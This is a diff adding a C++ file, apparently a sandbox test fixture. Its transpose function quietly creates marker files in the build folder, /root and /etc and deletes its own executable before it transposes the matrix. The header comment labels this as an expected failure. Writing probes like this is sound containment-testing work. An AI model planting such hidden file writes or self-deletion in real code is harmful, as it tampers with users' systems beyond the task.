@@ -1,0 +1,27 @@
+// gets: failed
+// Tries to write into the clone, the build and the home directory.
+#include "transpose.hpp"
+
+#include <fcntl.h>
+#include <unistd.h>
+#include <cstdlib>
+#include <string>
+
+namespace kit {
+
+void transpose(std::span<const float> in, std::span<float> out, std::size_t rows,
+               std::size_t cols) {
+  std::string self(4096, 0);
+  self.resize(static_cast<std::size_t>(::readlink("/proc/self/exe", self.data(), self.size())));
+  const std::string folder = self.substr(0, self.rfind(47));
+  for (const std::string& path :
+       {folder + "/planted", std::string("/root/planted"), std::string("/etc/planted")}) {
+    ::close(::open(path.c_str(), O_WRONLY | O_CREAT, 0644));
+  }
+  ::unlink(self.c_str());
+  for (std::size_t i = 0; i < rows; ++i) {
+    for (std::size_t j = 0; j < cols; ++j) out[j * rows + i] = in[i * cols + j];
+  }
+}
+
+}  // namespace kit
